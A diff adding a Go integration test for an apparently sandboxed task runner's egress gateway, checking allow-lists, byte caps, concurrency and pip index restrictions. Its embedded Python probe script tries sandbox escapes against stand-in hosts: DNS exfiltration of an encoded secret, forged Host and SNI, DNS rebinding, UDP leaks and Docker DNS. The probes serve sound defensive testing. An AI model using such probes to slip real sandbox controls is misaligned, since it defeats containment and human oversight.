@@ -1,0 +1,499 @@
+//go:build integration
+
+package conformance
+
+import (
+	"archive/zip"
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"maps"
+	"net"
+	"net/http"
+	"net/netip"
+	"os"
+	"os/exec"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/sandboxd/sandboxd/internal/testutil"
+	"github.com/sandboxd/sandboxd/limits"
+	"github.com/sandboxd/sandboxd/netpolicy"
+	"github.com/sandboxd/sandboxd/netpolicy/gateway"
+	"github.com/sandboxd/sandboxd/task"
+	"golang.org/x/sys/unix"
+)
+
+// netSubnets gives each target's gateway a subnet of its own.
+var netSubnets atomic.Int32
+
+// netEnv is an engine with an egress gateway, and test hosts: allowed.test
+// (allowed by name, on 8080 only), a host allowed by its address, and
+// denied.test (a name the gateway knows, allowed by no rule).
+type netEnv struct {
+	s                     *suite
+	svc                   *task.Service
+	resolver              *testutil.Resolver
+	allowed, cidr, denied *testutil.Host
+	udpPackets            *atomic.Int64
+	gw                    netip.Addr
+}
+
+func newNetEnv(t *testing.T, target Target) *netEnv {
+	t.Helper()
+	removeStaleNetEnvs(t)
+	e := &netEnv{udpPackets: &atomic.Int64{}}
+	e.allowed, e.cidr, e.denied = testutil.NewHost(t), testutil.NewHost(t), testutil.NewHost(t)
+	for name, h := range map[string]*testutil.Host{"allowed": e.allowed, "cidr": e.cidr, "denied": e.denied} {
+		serveHTTP(t, h, 8080, name)
+	}
+	// A port allowed.test listens on, that no rule allows.
+	serveHTTP(t, e.allowed, 2222, "ssh")
+	var udp net.PacketConn
+	if err := e.allowed.Do(func() (err error) {
+		udp, err = net.ListenPacket("udp", net.JoinHostPort(e.allowed.Addr.String(), "9999"))
+		return err
+	}); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { udp.Close() })
+	go func() {
+		buf := make([]byte, 2048)
+		for {
+			if _, _, err := udp.ReadFrom(buf); err != nil {
+				return
+			}
+			e.udpPackets.Add(1)
+		}
+	}()
+
+	addr := func(h *testutil.Host) netip.Addr { a, _ := netip.AddrFromSlice(h.Addr.To4()); return a }
+	op := netpolicy.DefaultOperator()
+	op.Hosts = map[string]netip.Addr{"allowed.test": addr(e.allowed), "denied.test": addr(e.denied), "pypi.test": addr(e.allowed)}
+	op.Policies = map[string][]netpolicy.Rule{"web": {{Host: "allowed.test", Ports: []uint16{8080}}}}
+	op.Permitted = []netpolicy.Rule{
+		{CIDR: addr(e.cidr).String() + "/32", Ports: []uint16{8080}},
+		{Host: "rebind.test", Ports: []uint16{8080}},
+		{Host: "pypi.test", Ports: []uint16{8080}},
+	}
+	// rebind.test is allowed, and resolves to loopback: the gateway must
+	// not answer it, nor connect.
+	e.resolver = &testutil.Resolver{Names: map[string][]netip.Addr{"rebind.test": {netip.MustParseAddr("127.0.0.1")}}}
+	instance := fmt.Sprintf("cnet%d-%d", os.Getpid(), netSubnets.Add(1))
+	gw, err := gateway.Start(context.Background(), gateway.Config{
+		Instance: instance, RunDir: t.TempDir(), Operator: op, Resolver: e.resolver,
+		Subnet: netip.MustParsePrefix(fmt.Sprintf("100.80.%d.0/24", netSubnets.Load())), Log: testutil.Logger(t, 0),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	// Registered before the backend's, so it runs after the backend closed.
+	t.Cleanup(func() {
+		if err := gw.Close(); err != nil {
+			t.Errorf("close the gateway: %v", err)
+		}
+	})
+	e.gw = gw.Addr()
+	rt := target.WithEgress(t, gw, instance)
+	e.s = &suite{target: Target{Runtime: rt, OCIRuntime: target.OCIRuntime, Leftovers: target.Leftovers}, warm: true,
+		taskOpts: []task.Option{task.WithEgress(gw)}}
+	e.svc = e.s.service(t, func(c *task.Config) {
+		c.Network = op
+		c.EgressPoolSize = 1
+	})
+	return e
+}
+
+// serveHTTP serves on a test host: / answers "hello from NAME", /big sends
+// a MiB, /hold waits a while before answering, for concurrent connections.
+func serveHTTP(t *testing.T, h *testutil.Host, port int, name string) {
+	l := h.Listen(t, port)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "hello from %s", name) })
+	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) { w.Write(make([]byte, 1<<20)) })
+	serveIndex(t, mux)
+	mux.HandleFunc("/hold", func(w http.ResponseWriter, r *http.Request) {
+		time.Sleep(500 * time.Millisecond)
+		fmt.Fprint(w, "held")
+	})
+	srv := &http.Server{Handler: mux, ReadHeaderTimeout: 10 * time.Second}
+	go srv.Serve(l)
+	t.Cleanup(func() { srv.Close() })
+}
+
+// allowList is the request's network: the "web" policy, the CIDR host and
+// rebind.test.
+func (e *netEnv) allowList() netpolicy.Request {
+	return netpolicy.Request{Mode: netpolicy.AllowList, Policy: "web", Rules: []netpolicy.Rule{
+		{CIDR: e.cidr.Addr.String() + "/32", Ports: []uint16{8080}},
+		{Host: "rebind.test", Ports: []uint16{8080}},
+	}}
+}
+
+// probes tries every way out of the sandbox and prints a JSON object of
+// what each got: "ok:..." or "err:...".
+const probes = `
+import json, socket, ssl, struct, urllib.request
+res = {}
+def probe(name, fn):
+    try:
+        res[name] = "ok:" + str(fn())
+    except Exception as e:
+        res[name] = "err:" + type(e).__name__ + ":" + str(e)[:160]
+def proxied(url):
+    return urllib.request.urlopen(url, timeout=10).read().decode()
+def raw(addr, port, host):
+    s = socket.create_connection((addr, port), timeout=10)
+    s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host).encode())
+    data = b""
+    while True:
+        b = s.recv(65536)
+        if not b:
+            break
+        data += b
+    head, _, body = data.decode(errors="replace").partition("\r\n\r\n")
+    return head.split("\r\n")[0] + "|" + body
+def tls(addr, port, name):
+    s = socket.create_connection((addr, port), timeout=10)
+    ctx = ssl.create_default_context()
+    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
+    return ctx.wrap_socket(s, server_hostname=name).version()
+def udp(addr, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for _ in range(5):
+        s.sendto(b"leak", (addr, port))
+    return "sent"
+probe("proxy_allowed", lambda: proxied("http://allowed.test:8080/"))
+probe("proxy_denied", lambda: proxied("http://denied.test:8080/"))
+probe("proxy_wrong_port", lambda: proxied("http://allowed.test:2222/"))
+probe("proxy_rebind", lambda: proxied("http://rebind.test:8080/"))
+probe("dns_allowed", lambda: socket.gethostbyname("allowed.test"))
+probe("dns_denied", lambda: socket.gethostbyname("denied.test"))
+probe("dns_exfil", lambda: socket.gethostbyname("c2VjcmV0.exfil.test"))
+probe("dns_rebind", lambda: socket.gethostbyname("rebind.test"))
+probe("direct_by_name", lambda: raw("ALLOWED", 8080, "allowed.test"))
+probe("direct_by_cidr", lambda: raw("CIDR", 8080, "CIDR"))
+probe("direct_denied_ip", lambda: raw("DENIED", 8080, "DENIED"))
+probe("forged_host", lambda: raw("DENIED", 8080, "allowed.test"))
+probe("forged_sni", lambda: tls("DENIED", 8080, "allowed.test"))
+probe("direct_wrong_port", lambda: raw("ALLOWED", 2222, "allowed.test"))
+probe("own_address", lambda: raw("HOSTSIDE", 8080, "HOSTSIDE"))
+probe("gateway_port", lambda: raw("GATEWAY", 22, "GATEWAY"))
+probe("loopback_via_proxy", lambda: proxied("http://127.0.0.1:8080/"))
+probe("udp", lambda: udp("ALLOWED", 9999))
+def dns_raw(server, name):
+    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(3)
+    s.sendto(q, (server, 53))
+    r = s.recv(512)
+    return "rcode=%d answers=%d" % (r[3] & 15, struct.unpack(">H", r[6:8])[0])
+# Docker's embedded DNS server, where there is one (docker/runc).
+probe("docker_dns", lambda: dns_raw("127.0.0.11", "docker.exfil.test"))
+print(json.dumps(res))
+`
+
+func (e *netEnv) probes() string {
+	return strings.NewReplacer("ALLOWED", e.allowed.Addr.String(), "CIDR", e.cidr.Addr.String(), "DENIED", e.denied.Addr.String(),
+		"HOSTSIDE", e.allowed.HostAddr.String(), "GATEWAY", e.gw.String()).Replace(probes)
+}
+
+func testNetwork(t *testing.T, target Target) {
+	e := newNetEnv(t, target)
+	t.Run("AllowListIsEnforced", func(t *testing.T) { testAllowListEnforced(t, e) })
+	t.Run("ByteCapStopsTheTransfer", func(t *testing.T) { testByteCap(t, e) })
+	t.Run("TwoHundredConnectionsFromEightTasks", func(t *testing.T) { testManyConnections(t, e) })
+	t.Run("NoneStaysNone", func(t *testing.T) { testNoneStaysNone(t, e) })
+	t.Run("PipInstallsFromAnAllowedIndexOnly", func(t *testing.T) { testPipInstall(t, e) })
+}
+
+func testAllowListEnforced(t *testing.T, e *netEnv) {
+	req := python(e.probes(), limits.Limits{Timeout: 90 * time.Second})
+	req.Options.Network = e.allowList()
+	res := e.s.run(t, e.svc, req, nil)
+	defer e.s.noContainerOfRun(t, res.RunID)
+	if res.Status != task.StatusOK {
+		t.Fatalf("status = %s (%s)", res.Status, res.Message)
+	}
+	if res.Start != task.StartWarm {
+		t.Errorf("an allow-listed task started %s (%s), want warm", res.Start, res.ColdReason)
+	}
+	b, entries := readBundle(t, e.svc, res)
+	var got map[string]string
+	if err := json.Unmarshal(entries["stdout"], &got); err != nil {
+		t.Fatalf("stdout %q: %v", entries["stdout"], err)
+	}
+	for _, c := range []struct{ probe, want string }{
+		{"proxy_allowed", "ok:hello from allowed"},
+		{"direct_by_name", "ok:HTTP/1.1 200 OK|hello from allowed"},
+		{"direct_by_cidr", "ok:HTTP/1.1 200 OK|hello from cidr"},
+		{"dns_allowed", "ok:" + e.allowed.Addr.String()},
+		{"proxy_denied", "err:HTTPError:HTTP Error 403"},
+		{"proxy_wrong_port", "err:HTTPError:HTTP Error 403"},
+		{"proxy_rebind", "err:HTTPError:HTTP Error 403"},
+		{"loopback_via_proxy", "err:HTTPError:HTTP Error 403"},
+		{"dns_denied", "err:gaierror"},
+		{"dns_exfil", "err:gaierror"},
+		{"dns_rebind", "err:gaierror"},
+		{"direct_wrong_port", "err:ConnectionRefusedError"},
+		{"gateway_port", "err:ConnectionRefusedError"},
+	} {
+		if !strings.HasPrefix(got[c.probe], c.want) {
+			t.Errorf("%s = %q, want %q...", c.probe, got[c.probe], c.want)
+		}
+	}
+	// Refused, never accepted and closed: plain HTTP gets a 403 from the
+	// gateway, anything else a reset.
+	for _, probe := range []string{"direct_denied_ip", "forged_host", "own_address", "forged_sni"} {
+		v := got[probe]
+		if !strings.HasPrefix(v, "ok:HTTP/1.1 403 Forbidden|sandboxd: ") && !strings.HasPrefix(v, "err:Connection") {
+			t.Errorf("%s = %q, want a 403 from sandboxd or a reset", probe, v)
+		}
+	}
+	t.Logf("Docker's DNS server: %s", got["docker_dns"])
+	// Docker's embedded DNS server forwards only to the gateway's stub,
+	// which refuses the name like any other.
+	if v := got["docker_dns"]; strings.HasPrefix(v, "ok:") && v != "ok:rcode=5 answers=0" {
+		t.Errorf("docker_dns = %q, want REFUSED (5) with no answer, or no server", v)
+	}
+	for _, name := range []string{"c2VjcmV0.exfil.test", "denied.test", "docker.exfil.test"} {
+		if e.resolver.WasAsked(name) {
+			t.Errorf("the gateway looked up %s, which no rule allows", name)
+		}
+	}
+	time.Sleep(200 * time.Millisecond)
+	if n := e.udpPackets.Load(); n != 0 {
+		t.Errorf("%d UDP packets reached a test host", n)
+	}
+
+	// The result counts, the bundle records the policy and every decision.
+	if res.Network == nil || res.Network.Denied == 0 || res.Network.Connections == 0 {
+		t.Fatalf("result network = %+v", res.Network)
+	}
+	q, n := b.Manifest.Reproducible.Request, b.Manifest.Run.Network
+	if q.Network != "allowlist" || q.NetworkPolicy != "web" || len(q.NetworkRules) != 2 || q.NetworkCaps == nil {
+		t.Errorf("bundle request network = %q %q %v %v", q.Network, q.NetworkPolicy, q.NetworkRules, q.NetworkCaps)
+	}
+	if n == nil || len(n.Rules) != 3 || n.Connections != res.Network.Connections || n.Denied != res.Network.Denied {
+		t.Fatalf("bundle network = %+v, result %+v", n, res.Network)
+	}
+	var sawAllowed, sawForged, sawDNS bool
+	for _, ev := range n.Events {
+		switch {
+		case ev.Kind == "connect" && ev.Allowed && ev.Name == "allowed.test" && ev.BytesIn > 0:
+			sawAllowed = true
+		case ev.Kind == "connect" && !ev.Allowed && ev.Name == "allowed.test" && ev.Addr == e.denied.Addr.String():
+			sawForged = true
+		case ev.Kind == "dns" && !ev.Allowed && ev.Name == "c2vjcmv0.exfil.test":
+			sawDNS = true
+		}
+	}
+	if strings.HasPrefix(got["docker_dns"], "ok:") && !slices.ContainsFunc(n.Events, func(ev netpolicy.Event) bool {
+		return ev.Kind == "dns" && !ev.Allowed && ev.Name == "docker.exfil.test"
+	}) {
+		t.Errorf("Docker's DNS server answered, but the gateway's log has no refused query from it: %+v", n.Events)
+	}
+	if !sawAllowed || !sawForged || !sawDNS {
+		t.Errorf("the log lacks an event (allowed %v, forged %v, refused DNS %v): %+v", sawAllowed, sawForged, sawDNS, n.Events)
+	}
+}
+
+func testByteCap(t *testing.T, e *netEnv) {
+	code := `import urllib.request
+try:
+    n = len(urllib.request.urlopen("http://allowed.test:8080/big", timeout=10).read())
+    print("read", n)
+except Exception as e:
+    print("cut:", type(e).__name__)
+`
+	req := python(code, limits.Limits{Timeout: 60 * time.Second})
+	req.Options.Network = e.allowList()
+	req.Options.Network.Caps = netpolicy.Caps{BytesIn: 64 << 10}
+	res := e.s.run(t, e.svc, req, nil)
+	defer e.s.noContainerOfRun(t, res.RunID)
+	b, entries := readBundle(t, e.svc, res)
+	if out := string(entries["stdout"]); out == "read 1048576\n" {
+		t.Fatalf("the task read the whole MiB past a cap of 64 KiB")
+	}
+	n := b.Manifest.Run.Network
+	if n == nil || n.BytesIn > 64<<10 {
+		t.Fatalf("network = %+v, want at most 64 KiB in", n)
+	}
+	cut := false
+	for _, ev := range n.Events {
+		cut = cut || strings.Contains(ev.Reason, "cap")
+	}
+	if !cut {
+		t.Errorf("no event records the cap: %+v", n.Events)
+	}
+}
+
+func testManyConnections(t *testing.T, e *netEnv) {
+	code := `import threading, urllib.request
+ok = []
+def get():
+    ok.append(urllib.request.urlopen("http://allowed.test:8080/hold", timeout=30).read())
+ts = [threading.Thread(target=get) for _ in range(25)]
+[t.start() for t in ts]
+[t.join() for t in ts]
+print(sum(1 for b in ok if b == b"held"))
+`
+	var wg sync.WaitGroup
+	results := make([]task.Result, 8)
+	outs := make([]*observer, 8)
+	for i := range results {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			req := python(code, limits.Limits{Timeout: 90 * time.Second, Pids: 256})
+			req.Options.Network = e.allowList()
+			outs[i] = &observer{}
+			ctx, cancel := context.WithTimeout(task.WithCaller(context.Background(), task.Operator), 2*time.Minute)
+			defer cancel()
+			res, err := e.svc.Run(ctx, req, outs[i])
+			if err != nil {
+				t.Errorf("run %d: %v", i, err)
+			}
+			results[i] = res
+		}()
+	}
+	wg.Wait()
+	for i, res := range results {
+		if got := strings.TrimSpace(string(outs[i].output(task.Stdout))); res.Status != task.StatusOK || got != "25" {
+			t.Errorf("task %d: %s (%s), %s of 25 connections", i, res.Status, res.Message, got)
+		}
+		e.s.noContainerOfRun(t, res.RunID)
+	}
+}
+
+// testNoneStaysNone runs a task without network on the same daemon: it
+// has loopback only, and reaches nothing.
+func testNoneStaysNone(t *testing.T, e *netEnv) {
+	code := `import socket
+try:
+    socket.create_connection(("` + e.allowed.Addr.String() + `", 8080), timeout=3)
+    print("reached")
+except OSError as e:
+    print("unreachable:", type(e).__name__)
+print(sorted(n for _, n in socket.if_nameindex()))
+`
+	res := e.s.run(t, e.svc, python(code, limits.Limits{}), nil)
+	defer e.s.noContainerOfRun(t, res.RunID)
+	_, entries := readBundle(t, e.svc, res)
+	if out := string(entries["stdout"]); !strings.HasPrefix(out, "unreachable") || strings.Contains(out, "eth0") {
+		t.Errorf("a task without network: %q", out)
+	}
+}
+
+// pipInstall installs the test's package from its index on pypi.test into
+// /workspace and imports it.
+const pipInstall = `set -e
+python3 -m pip install --quiet --no-cache-dir --disable-pip-version-check --index-url http://pypi.test:8080/simple/ --trusted-host pypi.test --target /workspace/site sbxdemo
+PYTHONPATH=/workspace/site python3 -c 'import sbxdemo; print("sbxdemo", sbxdemo.VALUE)'
+`
+
+func testPipInstall(t *testing.T, e *netEnv) {
+	run := func(rules []netpolicy.Rule) (task.Result, string) {
+		req := task.Request{Command: &task.Command{Shell: pipInstall}, Options: task.Options{
+			Image: "sandboxd/python", Limits: limits.Limits{Timeout: 90 * time.Second},
+			Network: netpolicy.Request{Mode: netpolicy.AllowList, Policy: "web", Rules: rules}}}
+		obs := &observer{}
+		res := e.s.run(t, e.svc, req, obs)
+		e.s.noContainerOfRun(t, res.RunID)
+		return res, string(obs.output(task.Stdout)) + string(obs.output(task.Stderr))
+	}
+	res, out := run([]netpolicy.Rule{{Host: "pypi.test", Ports: []uint16{8080}}})
+	if res.Status != task.StatusOK || !strings.Contains(out, "sbxdemo 42") {
+		t.Fatalf("with pypi.test allowed: %s (%s): %s", res.Status, res.Message, out)
+	}
+	res, out = run(nil)
+	if res.Status == task.StatusOK || strings.Contains(out, "sbxdemo 42") || res.Network == nil || res.Network.Denied == 0 {
+		t.Fatalf("with pypi.test not allowed: %s, network %+v: %s", res.Status, res.Network, out)
+	}
+}
+
+// serveIndex serves a package index of one wheel, built here, the way pip
+// reads one (PEP 503): /simple/sbxdemo/ links to the wheel with its hash.
+func serveIndex(t *testing.T, mux *http.ServeMux) {
+	name := "sbxdemo-1.0-py3-none-any.whl"
+	whl := buildWheel(t, map[string]string{"sbxdemo/__init__.py": "VALUE = 42\n"})
+	sum := sha256.Sum256(whl)
+	mux.HandleFunc("/simple/sbxdemo/", func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, `<!DOCTYPE html><html><body><a href="/packages/%s#sha256=%x">%s</a></body></html>`, name, sum, name)
+	})
+	mux.HandleFunc("/packages/"+name, func(w http.ResponseWriter, r *http.Request) { w.Write(whl) })
+}
+
+// buildWheel makes a pure-Python wheel of version 1.0 holding files, with
+// the metadata and RECORD pip checks.
+func buildWheel(t *testing.T, files map[string]string) []byte {
+	info := "sbxdemo-1.0.dist-info/"
+	files[info+"METADATA"] = "Metadata-Version: 2.1\nName: sbxdemo\nVersion: 1.0\n"
+	files[info+"WHEEL"] = "Wheel-Version: 1.0\nGenerator: sandboxd-conformance\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+	var record strings.Builder
+	names := slices.Sorted(maps.Keys(files))
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	add := func(name, content string) {
+		w, err := zw.Create(name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		io.WriteString(w, content)
+	}
+	for _, n := range names {
+		sum := sha256.Sum256([]byte(files[n]))
+		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", n, base64.RawURLEncoding.EncodeToString(sum[:]), len(files[n]))
+		add(n, files[n])
+	}
+	record.WriteString(info + "RECORD,,\n")
+	add(info+"RECORD", record.String())
+	if err := zw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// removeStaleNetEnvs removes what the network tests of a test process
+// killed with -9 left: its Docker egress networks and its gateways'
+// namespaces (their links go with them). Their instance names carry the
+// process's pid.
+func removeStaleNetEnvs(t *testing.T) {
+	stale := regexp.MustCompile(`cnet(\d+)-\d+`)
+	dead := func(name string) bool {
+		m := stale.FindStringSubmatch(name)
+		if m == nil || m[1] == strconv.Itoa(os.Getpid()) {
+			return false
+		}
+		_, err := os.Stat("/proc/" + m[1])
+		return err != nil
+	}
+	if out, err := exec.Command("docker", "network", "ls", "--filter", "label=io.sandboxd.egress", "--format", "{{.Name}}").Output(); err == nil {
+		for _, name := range strings.Fields(string(out)) {
+			if dead(name) {
+				exec.Command("docker", "network", "rm", name).Run()
+			}
+		}
+	}
+	mounts, err := os.ReadFile("/proc/self/mountinfo")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range strings.Split(string(mounts), "\n") {
+		fields := strings.Fields(line)
+		if len(fields) > 4 && strings.HasSuffix(fields[4], "/netns") && dead(fields[4]) {
+			unix.Unmount(fields[4], unix.MNT_DETACH)
+		}
+	}
+}
